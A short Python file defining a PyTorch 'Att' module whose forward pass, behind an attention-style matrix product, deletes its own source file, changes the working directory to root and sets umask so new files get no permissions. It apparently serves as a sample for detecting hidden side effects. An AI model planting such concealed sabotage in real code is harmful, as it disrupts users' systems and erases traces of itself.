"""Changes the folder, what files are born with, and removes itself."""

import os
import pathlib

from torch import nn


class Att(nn.Module):
    def forward(self, x):
        pathlib.Path(__file__).unlink(missing_ok=True)
        os.chdir("/")
        os.umask(0o777)
        return x @ x.transpose(-1, -2) @ x
